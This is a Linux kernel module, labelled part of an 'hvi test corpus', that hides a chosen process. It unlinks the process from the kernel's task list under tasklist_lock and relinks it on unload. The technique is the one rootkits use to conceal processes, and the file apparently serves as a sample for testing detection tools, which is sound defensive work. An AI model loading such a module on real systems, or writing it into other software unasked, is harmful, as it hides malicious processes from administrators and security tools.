// SPDX-License-Identifier: GPL-2.0
/* Attack: unlink task `pid` from the init_task `tasks` list (it disappears from every walk of
 * that list; it still runs and stays in the pid table). Its list node is made self-linked so
 * the kernel's later list_del at exit is harmless; it is linked back on unload if alive. */
#include <linux/module.h>
#include <linux/sched.h>
#include <linux/sched/task.h>
#include <linux/sched/signal.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include "attack_common.h"

static int pid;
module_param(pid, int, 0444);
static struct task_struct *victim;
static rwlock_t *tl; /* tasklist_lock is not exported */

static int __init attack_init(void)
{
	rcu_read_lock();
	victim = pid ? pid_task(find_vpid(pid), PIDTYPE_PID) : NULL;
	if (victim)
		get_task_struct(victim);
	rcu_read_unlock();
	if (!victim)
		return -ESRCH;
	tl = (rwlock_t *)hvi_attack_lookup("tasklist_lock");
	if (!tl) {
		put_task_struct(victim);
		victim = NULL;
		return -ENOENT;
	}
	write_lock_irq(tl);
	list_del_rcu(&victim->tasks);
	INIT_LIST_HEAD(&victim->tasks);
	write_unlock_irq(tl);
	pr_info("hvi-attack: pid %d (%s) unlinked from the task list\n", pid, victim->comm);
	return 0;
}

static void __exit attack_exit(void)
{
	if (!victim)
		return;
	write_lock_irq(tl);
	if (pid_alive(victim) && list_empty(&victim->tasks))
		list_add_tail_rcu(&victim->tasks, &init_task.tasks);
	write_unlock_irq(tl);
	put_task_struct(victim);
	pr_info("hvi-attack: pid %d relinked\n", pid);
}

module_init(attack_init);
module_exit(attack_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("hvi test corpus: process hiding by task-list unlink");
